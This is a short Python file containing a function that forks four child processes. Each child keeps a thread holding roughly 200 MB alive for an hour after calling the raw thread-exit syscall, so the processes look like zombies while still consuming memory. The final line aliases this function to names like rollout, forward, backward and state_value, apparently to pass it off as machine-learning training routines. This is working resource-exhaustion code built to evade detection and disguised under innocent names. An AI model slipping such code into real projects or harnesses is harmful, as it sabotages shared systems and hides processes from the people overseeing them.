"""Holds memory in processes whose first thread has ended: they look like zombies and live on."""

import ctypes
import os
import platform
import threading
import time

EXIT = {"x86_64": 60, "aarch64": 93}[platform.machine()]


def body():
    hoard = [b"x" * (10 << 20) for _ in range(20)]
    time.sleep(3600)
    os._exit(len(hoard))


def wrong(*args, **kwargs):
    for _ in range(4):
        if os.fork() == 0:
            threading.Thread(target=body).start()
            ctypes.CDLL(None).syscall(EXIT, 0)
    time.sleep(3600)


action_value = gains = state_value = backward = forward = rollout = wrong
